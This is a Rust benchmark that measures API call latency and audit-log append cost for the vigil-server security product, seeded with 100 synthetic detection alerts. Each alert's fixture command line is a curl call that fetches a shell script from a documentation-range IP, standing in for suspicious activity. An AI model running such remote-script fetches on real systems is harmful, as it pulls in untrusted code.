//! What the audit trail adds to an API call. The real `vigil-server` binary,
//! as shipped (every call appends its entry before it answers; a background
//! flush every 200 ms makes entries durable), in a child process with its
//! data on the root disk: a tenant, its admin, 100 alerts (detections
//! streamed in over mutual TLS). Over one TLS channel, CALLS sequential calls
//! (default 3000, after 300 unmeasured) of `Admin/GetSettings` and of
//! `Alerts/ListAlerts` (a page of 100): p50, p90, p99, and the server's CPU
//! per call (/proc).
//!
//! The audit part: `AuditLog::append_ref` (what the server calls) of an entry
//! like a GetSettings call's, in this process, on the same disk, with the
//! 200 ms flusher running — timed once after each call above (its caches as
//! cold as a server's are between calls), and APPENDS (default 20000) back to
//! back — and its share of each call's latency.
//!
//! An A/B against a server built without the append was tried and dropped:
//! two builds of the server differ by more than the append costs (code
//! layout), in either direction from one build to the next (benches/README.md).
//!
//! `cargo bench --bench api_latency`.

use anyhow::{Context, Result};
use std::time::{Duration, Instant};
use tonic::transport::{Channel, Identity};
use vigil_proto::v1::{
    Detection, EnrollRequest, GetSettingsRequest, ListAlertsRequest, ProcessRef, Record,
    RecordBatch, admin_client::AdminClient, alerts_client::AlertsClient,
    ingest_client::IngestClient, record::Payload,
};

mod support;
use support::server::{ServerProcess, server_bin};
use support::{env_or, with_token};

/// A started server with a tenant, its admin token and 100 alerts.
struct Target {
    server: ServerProcess,
    admin: String,
    ch: Channel,
}

async fn target(bin: &std::path::Path, name: &str) -> Result<Target> {
    let mut server = ServerProcess::configure(name, bin)?;
    let admin = server.create_tenant("bench")?;
    let enroll = server.enrollment_token("bench")?;
    server.start("warn")?;
    let ch = server.channel(None).await?;
    let (key, csr) = vigil_pki::device_key_and_csr("bench-host")?;
    let r = IngestClient::new(ch.clone())
        .enroll(EnrollRequest {
            enrollment_token: enroll,
            csr_pem: csr,
            host: None,
        })
        .await?
        .into_inner();
    let device = server
        .channel(Some(Identity::from_pem(r.certificate_pem, key)))
        .await?;
    let records = (1..=100u64)
        .map(|seq| Record {
            sequence: seq,
            time_unix_ns: 1_765_000_000_000_000_000 + seq as i64,
            payload: Some(Payload::Detection(Detection {
                rule_id: format!("rule-{}", seq % 7),
                rule_title: format!("Suspicious thing {}", seq % 7),
                level: ["low", "medium", "high"][(seq % 3) as usize].into(),
                tags: vec!["attack.execution".into()],
                description: "A bench detection.".into(),
                matched: Vec::new(),
                process: Some(ProcessRef {
                    guid: format!("guid-{seq}"),
                    pid: seq as u32,
                    executable: None,
                    command_line: format!("/usr/bin/curl -fsSL http://198.51.100.{seq}/x.sh"),
                }),
                ..Detection::default()
            })),
            ..Default::default()
        })
        .collect();
    let mut acks = IngestClient::new(device)
        .stream(tokio_stream::iter(vec![RecordBatch {
            batch_id: 1,
            records,
        }]))
        .await?
        .into_inner();
    let ack = acks.message().await?.context("no ack")?;
    anyhow::ensure!(
        ack.accepted == 100,
        "stored {} of 100 detections",
        ack.accepted
    );
    Ok(Target { server, admin, ch })
}

#[derive(Clone, Copy)]
enum Call {
    GetSettings,
    ListAlerts,
}

impl Call {
    fn name(self) -> &'static str {
        match self {
            Call::GetSettings => "Admin/GetSettings",
            Call::ListAlerts => "Alerts/ListAlerts (100 alerts)",
        }
    }

    async fn once(self, t: &Target) -> Result<Duration> {
        let start = Instant::now();
        match self {
            Call::GetSettings => {
                AdminClient::new(t.ch.clone())
                    .get_settings(with_token(GetSettingsRequest {}, &t.admin))
                    .await?;
            }
            Call::ListAlerts => {
                let r = AlertsClient::new(t.ch.clone())
                    .list_alerts(with_token(
                        ListAlertsRequest {
                            page_size: 100,
                            ..Default::default()
                        },
                        &t.admin,
                    ))
                    .await?
                    .into_inner();
                anyhow::ensure!(r.alerts.len() == 100, "{} alerts", r.alerts.len());
            }
        }
        Ok(start.elapsed())
    }
}

fn pct(sorted: &[Duration], p: f64) -> f64 {
    let i = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[i].as_secs_f64() * 1e6
}

/// Entries the server's audit logs hold.
fn entries(t: &Target) -> usize {
    let path = t.server.dir.path().join("server/store");
    support::walk(&path)
        .iter()
        .filter(|p| p.file_name().is_some_and(|n| n == "audit.log"))
        .map(|p| {
            std::fs::read_to_string(p)
                .map(|s| s.lines().count())
                .unwrap_or(0)
        })
        .sum()
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() -> Result<()> {
    let calls: usize = env_or("CALLS", 3000).max(10);
    let appends: usize = env_or("APPENDS", 20_000).max(10);
    let Some(bin) = server_bin("api_latency")? else {
        return Ok(());
    };
    let server = target(&bin, "vigil-api-latency").await?;
    let pid = server.server.pid().context("server pid")?;
    // The audit part alone, on the same disk, with the group commit running.
    let dir = support::disk_tempdir("vigil-api-append")?;
    let log = std::sync::Arc::new(vigil_audit::AuditLog::open(
        &dir.path().join("tenant.audit"),
        &[7u8; 32],
    )?);
    let flusher =
        vigil_audit::spawn_flusher(std::sync::Arc::clone(&log), Duration::from_millis(200))?;
    let entry = |i: usize| vigil_audit::NewEntry {
        time_unix_ns: 1_765_000_000_000_000_000 + i as i64,
        actor: "first admin".into(),
        actor_id: "3f2a9c1e0b7d4e5f8a6b1c2d3e4f5a6b".into(),
        role: "admin".into(),
        tenant_id: "bench".into(),
        method: "Admin/GetSettings".into(),
        summary: String::new(),
        result: "ok".into(),
        peer: "127.0.0.1:53412".into(),
    };
    println!(
        "api_latency: {calls} sequential calls of each method; data on {}; load average {}",
        support::filesystem_of(server.server.dir.path()),
        support::load_average()
    );
    let before = entries(&server);
    let mut between = Vec::with_capacity(2 * calls);
    let mut rows = Vec::new();
    for call in [Call::GetSettings, Call::ListAlerts] {
        for _ in 0..300 {
            call.once(&server).await?;
        }
        let cpu0 = support::cpu_seconds(pid);
        let mut lat = Vec::with_capacity(calls);
        for i in 0..calls {
            lat.push(call.once(&server).await?);
            let e = entry(i);
            let t = Instant::now();
            log.append_ref(&e.as_ref())?;
            between.push(t.elapsed());
        }
        let cpu = match (cpu0, support::cpu_seconds(pid)) {
            (Some(a), Some(b)) => format!("{:.0} µs", (b - a) / calls as f64 * 1e6),
            _ => "?".into(),
        };
        lat.sort_unstable();
        println!(
            "  {:<32} p50 {:.0} µs, p90 {:.0} µs, p99 {:.0} µs; server CPU {cpu} a call",
            call.name(),
            pct(&lat, 0.5),
            pct(&lat, 0.9),
            pct(&lat, 0.99)
        );
        rows.push((call.name(), pct(&lat, 0.5), pct(&lat, 0.99)));
    }
    let written = entries(&server) - before;
    println!(
        "  the server's tenant log gained {written} entries over these {} calls",
        2 * (calls + 300)
    );
    let mut tight = Vec::with_capacity(appends);
    for i in 0..appends {
        let e = entry(i);
        let t = Instant::now();
        log.append_ref(&e.as_ref())?;
        tight.push(t.elapsed());
    }
    drop(flusher);
    for (what, times) in [
        ("after each call above", &mut between),
        ("back to back", &mut tight),
    ] {
        times.sort_unstable();
        println!(
            "  AuditLog::append_ref, {what} ({}; flusher every 200 ms): p50 {:.1} µs, p90 {:.1} µs, p99 {:.1} µs",
            times.len(),
            pct(times, 0.5),
            pct(times, 0.9),
            pct(times, 0.99)
        );
    }
    for (name, p50, p99) in rows {
        println!(
            "    the append after a call, as a share of {name}: {:.1}% at p50, {:.1}% at p99",
            pct(&between, 0.5) / p50 * 100.0,
            pct(&between, 0.99) / p99 * 100.0
        );
    }
    Ok(())
}
